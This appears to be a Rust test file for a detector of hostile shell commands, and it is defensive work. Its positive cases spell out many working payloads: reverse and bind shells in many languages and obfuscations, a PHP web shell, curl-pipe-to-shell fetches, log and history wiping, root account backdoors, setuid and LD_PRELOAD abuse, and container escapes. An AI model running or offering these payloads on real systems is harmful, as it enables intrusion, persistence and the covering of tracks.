//! Payload shapes that must be seen, and ordinary commands that must not.

use super::*;
use proptest::prelude::*;

fn strongest(command: &str, kind: Kind) -> Option<Strength> {
    analyze(command.as_bytes()).strongest(kind).map(|indicator| indicator.strength)
}

/// The surest indicator of any kind.
fn worst(command: &str) -> Option<Indicator> {
    analyze(command.as_bytes()).indicators.into_iter().next()
}

#[track_caller]
fn all_are(kind: Kind, strength: Strength, commands: &[&str]) {
    let others: Vec<_> = commands
        .iter()
        .map(|command| (*command, strongest(command, kind)))
        .filter(|(_, found)| *found != Some(strength))
        .collect();
    assert!(others.is_empty(), "{others:#?}");
}

#[track_caller]
fn none_is_more_than_weak(commands: &[&str]) {
    let found: Vec<_> = commands
        .iter()
        .filter_map(|command| worst(command).map(|found| (*command, found)))
        .filter(|(_, found)| found.strength > Strength::Weak)
        .collect();
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn reverse_shells_of_every_shape_are_certain() {
    all_are(
        Kind::ReverseShell,
        Strength::Certain,
        &[
            "/bin/bash -c 'sh -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
            "setsid nohup /bin/bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 &",
            "setsid nohup sh -i >& /dev/udp/192.0.2.1/4444 0>&1",
            "bash -i > /dev/tcp/192.0.2.1/4444 0<&1 2>&1",
            "0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196",
            "exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "exec 5<>/dev/tcp/192.0.2.1/1;while read -r l 0<&5;do eval \"$l\" >&5 2>&1;done",
            "exec {fd}<>/dev/tcp/192.0.2.1/1; bash -i <&$fd >&$fd",
            "(sh -i) >& /dev/tcp/192.0.2.1/1 0>&1",
            "{ bash; } <> /dev/tcp/192.0.2.1/1 >&0",
            "bash -c \"bash -i\" >& /dev/tcp/192.0.2.1/1 0>&1",
            "ksh -c 'ksh -i > /dev/tcp/192.0.2.1/1 2>&1 0>&1'",
            "ksh -c 'ksh >/dev/tcp/192.0.2.1/1 2>&1 <&1'",
            "zsh -c 'zmodload zsh/net/tcp && ztcp 192.0.2.1 1 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
            "busybox nc 192.0.2.1 4444 -e /bin/sh",
            "nc.traditional -e /bin/sh 192.0.2.1 4444",
            "ncat 192.0.2.1 4444 --exec /bin/bash",
            "ncat --sh-exec=/bin/bash 192.0.2.1 4444",
            "nc -c sh 192.0.2.1 4444",
            "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect \
             192.0.2.1:443 > /tmp/s; rm /tmp/s",
            "TF=$(mktemp -u); mkfifo $TF && telnet 192.0.2.1 1 0<$TF | /bin/sh 1>$TF",
            "telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445",
            "nc 192.0.2.1 4444 | sh",
            "socat tcp-connect:192.0.2.1:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
            "socat OPENSSL:192.0.2.1:4444,verify=0 EXEC:'bash -li',pty",
            "xterm -display 192.0.2.1:1",
            "awk 'BEGIN {s = \"/inet/tcp/0/192.0.2.1/4444\"; while(1) { printf \"> \" |& s; \
             if ((s |& getline c) <= 0) break; while (c && (c |& getline) > 0) print $0 |& s; \
             close(c); } }'",
            "nohup setsid python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,\
             socket.SOCK_STREAM);s.connect((\"192.0.2.1\",4444));os.dup2(s.fileno(),0);\
             os.dup2(s.fileno(),1);p=subprocess.call([\"/bin/sh\",\"-i\"]);'",
            "python -c 'import socket,pty;s=socket.socket();s.connect((\"192.0.2.1\",4444));\
             [os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")'",
            "python3 <<EOF\nimport socket,os,pty\ns=socket.socket()\ns.connect((\"192.0.2.1\",1))\n\
             os.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")\nEOF\n",
            "setsid nohup perl -e 'use Socket;$i=\"192.0.2.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,\
             getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");\
             open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'",
            "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"192.0.2.1:1\");\
             STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
            "php -r '$sock=fsockopen(\"192.0.2.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"192.0.2.1\",\"1\");while(cmd=c.gets);\
             IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
            "lua -e 'local s=require(\"socket\"); local t=assert(s.tcp()); t:connect(\"192.0.2.1\",1); \
             while true do local r=t:receive();local f=assert(io.popen(r,\"r\")); end'",
            "node -e 'sh = require(\"child_process\").spawn(\"/bin/sh\"); require(\"net\")\
             .connect(1, \"192.0.2.1\", function () { this.pipe(sh.stdin); sh.stdout.pipe(this); })'",
        ],
    );
}

#[test]
fn bind_shells_of_every_shape_are_certain() {
    all_are(
        Kind::BindShell,
        Strength::Certain,
        &[
            "nc.traditional -l -p 9001 -e /bin/sh &",
            "ncat -lvnp 9001 --exec /bin/bash",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc -l 0.0.0.0 9001 >/tmp/f",
            "socat TCP-LISTEN:9001,reuseaddr,fork EXEC:/bin/sh,pty,stderr,setsid,sigint,sane &",
            "setsid nohup socket -svp '/bin/sh -i' 9001 &",
            "node -e \"const sh = require('child_process').spawn('/bin/sh');\
             require('net').createServer(c => {c.pipe(sh.stdin); sh.stdout.pipe(c)}).listen(9001);\"",
            "python3 -c 'import socket as s,subprocess as sp;s1=s.socket();s1.bind((\"0.0.0.0\",1));\
             s1.listen(1);c,a=s1.accept();sp.call([\"/bin/sh\"],stdin=c.fileno())'",
        ],
    );
}

#[test]
fn payloads_taken_apart_are_put_together_again() {
    all_are(
        Kind::ReverseShell,
        Strength::Certain,
        &[
            "b''ash -i >& /dev/t\"c\"p/192.0.2.1/4444 0>&1",
            "a=ba;b=sh;$a$b -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "bash${IFS}-i${IFS}>&/dev/tcp/192.0.2.1/4444 0>&1",
            "$'\\x62\\x61\\x73\\x68' -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "eval \"$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYx | base64 -d)\"",
            "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYx | base64 -d | bash",
            "base64 -d <<< YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYx | sh",
            "bash -c '{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYx}|{base64,-d}|{bash,-i}'",
            "bash <(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYx | base64 -d)",
            "rev <<< '1&>0 4444/1.2.0.291/pct/ved/ &> i- hsab' | bash",
            "printf '\\142\\141\\163\\150 -i >& /dev/tcp/192.0.2.1/1 0>&1' | sh",
            "echo onfu -v '>&' /qri/gpc/192.0.2.1/1 '0>&1' | tr a-z n-za-m | sh",
            "ba\\\nsh -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "if true; then case x in x) bash -i >& /dev/tcp/192.0.2.1/1 0>&1;; esac; fi",
            "f() { bash -i >& /dev/tcp/192.0.2.1/1 0>&1; }; f",
            "alias ls='ls; bash -i >& /dev/tcp/192.0.2.1/1 0>&1'",
            "PROMPT_COMMAND='bash -i >& /dev/tcp/192.0.2.1/1 0>&1'",
            "trap 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' EXIT",
            "env X=1 nice -n 5 timeout 60 bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
            "bash <<X\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\nX\n",
            "echo \"/bin/bash -c 'sh -i >& /dev/tcp/192.0.2.1/1 0>&1'\" | at now",
            "python3 -c 'exec(__import__(\"base64\").b64decode(\"aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZ\
             XQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTkyLjAuMi4xIiwxKSk7b3MuZHVwMihzLmZpbGVubygpLDApO3B0eS5zcGF3\
             bigiL2Jpbi9zaCIp\"))'",
        ],
    );
}

#[test]
fn whole_scripts_of_other_languages_are_read() {
    let python = "#!/usr/bin/python3\nimport socket, os, pty\ns = socket.socket()\n\
        s.connect(('192.0.2.1', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n";
    assert_eq!(strongest(python, Kind::ReverseShell), Some(Strength::Certain));
    let calls = "#!/usr/bin/env python3\nimport os\nos.system(\"bash -c 'bash -i >& \
        /dev/tcp/192.0.2.1/1 0>&1'\")\n";
    assert_eq!(strongest(calls, Kind::ReverseShell), Some(Strength::Certain));
    let php = "<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>";
    assert_eq!(strongest(php, Kind::WebShell), Some(Strength::Certain));
}

#[test]
fn fetching_and_running_is_seen_in_every_order() {
    all_are(
        Kind::FetchAndRun,
        Strength::Likely,
        &[
            "curl -fsSL https://x.example.org/i.sh | bash",
            "wget -qO- https://x.example.org/i.sh | sudo sh -s -- --now",
            "(curl -s https://x.example.org/i || wget -qO - https://x.example.org/i) | bash",
            "sh -c \"$(curl -fsSL https://x.example.org/i)\"",
            "bash <(curl -s https://x.example.org/i)",
            "source <(curl -s https://x.example.org/i)",
            "eval \"`wget -qO- https://x.example.org/i`\"",
            "curl https://x.example.org/i | tee /root/i | sh",
            "curl https://x.example.org/i.py | python3 -",
            "curl -o /opt/i https://x.example.org/i; chmod +x /opt/i; /opt/i",
            "cd /opt && wget https://x.example.org/i.sh && sh i.sh",
            "wget -P /tmp https://x.example.org/run -O /tmp/run; bash /tmp/run",
            "x=$(curl -s https://x.example.org/i); eval \"$x\"",
            "x=$(curl -s https://x.example.org/i); echo \"$x\" | bash",
            "python3 -c \"import urllib.request as u;exec(u.urlopen('https://x.example.org').read())\"",
        ],
    );
    all_are(
        Kind::FetchAndRun,
        Strength::Certain,
        &[
            "curl http://203.0.113.9/i.sh | bash",
            "wget -q -O /tmp/x http://203.0.113.9:8080/x && chmod 777 /tmp/x && /tmp/x",
            "curl -s https://pastebin.com/raw/abcd | sh",
            "curl [2001:db8::1]:80/x | sh",
        ],
    );
}

#[test]
fn decoding_and_running_is_seen() {
    all_are(
        Kind::DecodeAndRun,
        Strength::Likely,
        &[
            "echo aWQ= | base64 -d | sh",
            "cat /opt/blob | openssl enc -d -aes-256-cbc -k x | bash",
            "xxd -r -p /opt/hex | sh",
            "tail -c +100 /opt/img.png | gzip -d | bash",
            "eval $(base64 --decode /opt/blob)",
            "bash -c \"$(base64 -d < /opt/blob)\"",
            "x=$(base64 -d /opt/blob); bash -c \"$x\"",
            "perl -e 'use MIME::Base64; eval decode_base64(\"cHJpbnQgMTs=\")'",
            "php -r 'eval(base64_decode(\"cHJpbnQgMTs=\"));'",
            "python3 -c 'import zlib;exec(zlib.decompress(b\"x\"))'",
            "base64 -d /opt/blob > /opt/x; sh /opt/x",
        ],
    );
}

#[test]
fn places_are_judged_for_what_is_run_and_not_for_what_is_named() {
    all_are(
        Kind::TemporaryPlace,
        Strength::Likely,
        &[
            "/tmp/x",
            "nohup /dev/shm/x &",
            "bash /var/tmp/x.sh",
            "cd /tmp && ./x",
            "python3 /tmp/x.py",
            "/usr/../tmp/x",
            "//tmp//x",
            ". /tmp/x",
            "exec /run/user/1000/x",
        ],
    );
    all_are(
        Kind::HiddenPlace,
        Strength::Likely,
        &[
            "/usr/lib/.x/run",
            "/root/.configrc/a/kswapd0",
            "/opt/.../x",
            "'/usr/bin/nologin '",
            "sh ~/.x.sh",
        ],
    );
    all_are(Kind::OddPlace, Strength::Likely, &["/var/log/spy.sh", "/dev/x"]);
    none_is_more_than_weak(&[
        "tar -czf /tmp/backup.tgz /srv",
        "find /tmp -mtime +7 -delete",
        "/root/.acme.sh/acme.sh --cron --home /root/.acme.sh > /dev/null",
        "/home/u/.local/bin/tool",
        "/srv/app/.venv/bin/python manage.py",
        ". ~/.bashrc",
        "[ -f ~/.config_x ] && . ~/.config_x",
        "rm -rf /tmp/cache",
        "awk -F. '{print $1}' /etc/x",
        "cat /tmp/list | xargs -n1 echo",
        "TMPDIR=/tmp /usr/bin/x --socket /run/user/1000/x.sock",
    ]);
}

#[test]
fn traces_being_removed_are_told_from_housekeeping() {
    all_are(
        Kind::LogRemoval,
        Strength::Likely,
        &[
            "rm -f /var/log/wtmp",
            "> /var/log/auth.log",
            "cat /dev/null > /var/log/lastlog",
            "echo '' > /var/log/secure",
            "shred -u /var/log/btmp",
            "rm -rf /var/log/*",
            "journalctl --rotate --vacuum-time=1s",
            "sed -i '/192.0.2.1/d' /var/log/auth.log",
            "ln -sf /dev/null /var/log/wtmp",
        ],
    );
    all_are(
        Kind::HistoryOff,
        Strength::Likely,
        &[
            "unset HISTFILE",
            "export HISTFILE=/dev/null",
            "HISTSIZE=0",
            "history -c",
            "set +o history",
            "ln -s /dev/null ~/.bash_history",
            "rm ~/.bash_history",
            "> /root/.bash_history",
        ],
    );
    none_is_more_than_weak(&[
        "find /var/log -name '*.gz' -mtime +30 -delete",
        "rm -f /var/log/app/*.log",
        "rm -f /var/log/auth.log.1 /var/log/syslog.2.gz",
        "truncate -s 0 /var/log/nginx/access.log",
        "journalctl --vacuum-size=500M",
        "journalctl --vacuum-time=14d",
        "echo rotated >> /var/log/auth.log",
        "export HISTSIZE=10000 HISTCONTROL=ignoreboth HISTTIMEFORMAT='%F %T '",
        "> /var/log/syslog",
    ]);
}

#[test]
fn ways_in_and_up_are_seen() {
    all_are(
        Kind::AccountChange,
        Strength::Certain,
        &[
            "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash x",
            "usermod -o -u 0 news",
            "echo 'x:$1$a$b:0:0::/root:/bin/bash' >> /etc/passwd",
        ],
    );
    all_are(
        Kind::AccountChange,
        Strength::Likely,
        &[
            "echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u",
            "echo 'u ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/sudoers",
            "echo root:x | chpasswd",
            "usermod -aG sudo www-data",
        ],
    );
    all_are(
        Kind::KeyChange,
        Strength::Likely,
        &[
            "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys",
            "cat k | tee -a ~/.ssh/authorized_keys",
        ],
    );
    all_are(
        Kind::Privilege,
        Strength::Certain,
        &[
            "chmod u+s /bin/bash",
            "chmod 4755 /usr/bin/python3.11",
            "chmod 6777 /tmp/x",
            "cp /bin/sh /tmp/s; chmod +s /tmp/s",
            "install -m 4755 /bin/dash /var/tmp/d",
            "setcap cap_setuid+ep /usr/bin/perl",
            "chmod ug+s /usr/bin/find",
        ],
    );
    all_are(
        Kind::Immutable,
        Strength::Likely,
        &["chattr +i /etc/cron.d/x", "chattr +ia ~/.ssh/authorized_keys"],
    );
    none_is_more_than_weak(&[
        "useradd --system --uid 990 app",
        "chmod 0755 /usr/local/bin/x",
        "chmod g+s /srv/share",
        "chmod 2775 /srv/share",
        "chattr +i /etc/resolv.conf",
        "setcap cap_net_bind_service=+ep /usr/local/bin/caddy",
        "chmod 4755 /usr/lib/dbus-1.0/dbus-daemon-launch-helper",
        "install -m 0644 a /etc/b",
    ]);
}

#[test]
fn weakened_defences_are_seen() {
    all_are(
        Kind::SecurityOff,
        Strength::Likely,
        &[
            "setenforce 0",
            "auditctl -e 0",
            "systemctl disable --now auditd",
            "service rsyslog stop",
            "pkill -9 falco",
        ],
    );
    all_are(
        Kind::FirewallOff,
        Strength::Likely,
        &["iptables -F", "nft flush ruleset", "ufw disable"],
    );
    all_are(
        Kind::Preload,
        Strength::Certain,
        &[
            "LD_PRELOAD=/tmp/x.so ls",
            "export LD_PRELOAD=/dev/shm/.x.so",
            "echo /lib/x.so > /etc/ld.so.preload",
        ],
    );
    all_are(
        Kind::Preload,
        Strength::Likely,
        &["LD_PRELOAD=/usr/lib/libx.so sshd", "env LD_AUDIT=/opt/a.so x"],
    );
    all_are(
        Kind::KernelModule,
        Strength::Certain,
        &["insmod /dev/shm/.rk/x.ko", "insmod /tmp/x.ko"],
    );
    none_is_more_than_weak(&[
        "iptables -F; iptables -P INPUT DROP; iptables -A INPUT -i lo -j ACCEPT",
        "systemctl restart rsyslog",
        "systemctl kill -s HUP rsyslog.service",
        "pkill -HUP rsyslogd",
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server",
        "LD_LIBRARY_PATH=/opt/app/lib /opt/app/bin/app",
        "modprobe br_netfilter",
        "insmod /lib/modules/6.1.0/extra/zfs.ko",
        "nft -f /etc/nftables.conf",
    ]);
}

#[test]
fn schedules_abuse_and_escapes_are_seen() {
    all_are(
        Kind::ScheduleChange,
        Strength::Likely,
        &[
            "(crontab -l; echo '* * * * * /x') | crontab -",
            "crontab /opt/x",
            "echo '* * * * * root /x' > /etc/cron.d/x",
            "echo /x | at now + 1 minute",
            "/usr/bin/at -M -f /usr/bin/atest now",
        ],
    );
    all_are(
        Kind::Miner,
        Strength::Certain,
        &["/opt/x -o stratum+tcp://pool.example.org:3333 -u 4A", "./xmrig", "x --donate-level 1"],
    );
    all_are(
        Kind::Flood,
        Strength::Certain,
        &["hping3 -S --flood -p 80 192.0.2.1", "python3 /opt/x.py; t50 192.0.2.1"],
    );
    all_are(
        Kind::KillRivals,
        Strength::Likely,
        &[
            "pkill -f xmrig; pkill -f kinsing; pkill -f kdevtmpfsi",
            "ps aux | grep -v x | awk '{if($3>80.0) print $2}' | xargs -I % kill -9 %",
        ],
    );
    all_are(
        Kind::ContainerEscape,
        Strength::Likely,
        &[
            "nsenter -t 1 -m -u -i -n sh",
            "docker run -d --privileged --pid=host -v /:/host alpine chroot /host sh",
            "echo /x > /sys/fs/cgroup/x/release_agent",
        ],
    );
    none_is_more_than_weak(&[
        "crontab -l",
        "docker run --rm -v /srv:/data backup",
        "docker run -d --pid=host -v /:/host:ro,rslave prom/node-exporter --path.rootfs=/host",
        "pgrep xmrig",
        "echo > /sys/kernel/uevent_helper",
    ]);
}

#[test]
fn ordinary_network_commands_are_no_shells() {
    none_is_more_than_weak(&[
        "timeout 1 bash -c '</dev/tcp/192.0.2.1/22' && echo up",
        "(echo > /dev/tcp/127.0.0.1/5432) >/dev/null 2>&1",
        "exec 3<>/dev/tcp/localhost/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
        "while ! nc -z db 5432; do sleep 1; done",
        "echo \"m.x 1 $(date +%s)\" | nc graphite 2003",
        "sh /opt/collect.sh | nc 192.168.0.1 9999",
        "nc -l 8080 > /srv/in",
        "socat TCP-LISTEN:80,fork TCP:10.0.0.2:80",
        "socat TCP-LISTEN:9999,fork EXEC:/opt/echo.sh",
        "echo | openssl s_client -connect x.example.org:443 | openssl x509 -noout -dates",
        "curl -fsS https://hc.example.org/ping/1 > /dev/null",
        "curl -s https://x.example.org/x.json | jq -r .x | while read -r i; do echo \"$i\"; done",
        "curl -s https://x.example.org/x | python3 -m json.tool",
        "curl -s https://x.example.org/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl -o /usr/local/bin/kubectl https://x.example.org/kubectl && chmod +x /usr/local/bin/kubectl",
        "echo cGFzcw== | base64 -d > /etc/app/secret",
        "base64 -d <<< \"$CERT\" | openssl x509 -noout",
        "zcat dump.sql.gz | mysql db",
        "gzip -dc x.gz | tar x",
        "mysqldump db | gzip | ssh backup 'cat > x.gz'",
        "python3 -c 'import socket; print(socket.gethostname())'",
        "perl -e 'use Socket; print inet_ntoa(inet_aton(\"x\"))'",
        "while read -r f; do process \"$f\"; done < /srv/list",
        "php /var/www/artisan schedule:run >> /dev/null 2>&1",
    ]);
}

#[test]
fn evidence_names_the_line_and_the_part() {
    let script = "#!/bin/sh\nset -e\n\necho hi\n  bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n";
    let found = worst(script).unwrap();
    assert_eq!(found.line, 5);
    assert_eq!(found.evidence, "bash -i >& /dev/tcp/192.0.2.1/1 0>&1");
    assert!(!found.decoded);
}

#[test]
fn what_was_decoded_says_so_and_shows_the_decoded_part() {
    let found =
        worst("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYx|base64 -d|sh").unwrap();
    assert!(found.decoded);
    assert_eq!(found.evidence, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1");
}

#[test]
fn binary_content_is_nothing() {
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0 bash -i >& /dev/tcp/192.0.2.1/1 0>&1";
    assert_eq!(analyze(elf), Analysis::default());
}

#[test]
fn hostile_nesting_ends() {
    for open in
        ["$(", "`", "sh -c \"$(", "((", "{ ", "${", "a=(", "<(", "\"$(", "eval '", "case x in a)"]
    {
        let text = open.repeat(20_000);
        let _ = analyze(text.as_bytes());
    }
    let doubling = format!("a=x;{}$a", "a=$a$a;".repeat(5_000));
    let _ = analyze(doubling.as_bytes());
    let documents = "cat <<A\n".repeat(20_000);
    let _ = analyze(documents.as_bytes());
}

proptest! {
    #[test]
    fn any_bytes_are_analysed(bytes: Vec<u8>) {
        let _ = analyze(&bytes);
        let _ = super::super::programs(&bytes);
    }

    #[test]
    fn any_shell_like_text_is_analysed(text in "[$(){}`'\"<>|&;#a=/ \n\\\\-]{0,200}") {
        let _ = analyze(text.as_bytes());
        let _ = super::super::programs(text.as_bytes());
    }

    #[test]
    fn an_ordinary_line_around_a_payload_hides_nothing(
        before in "[a-z]{1,8} [a-z/]{0,20}", after in "[a-z]{1,8} [a-z/]{0,20}"
    ) {
        prop_assume!(!["if", "case", "for", "while", "until", "select", "function", "coproc"]
            .iter().any(|word| before.starts_with(word)));
        let text = format!("{before}\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n{after}\n");
        prop_assert_eq!(strongest(&text, Kind::ReverseShell), Some(Strength::Certain));
    }
}
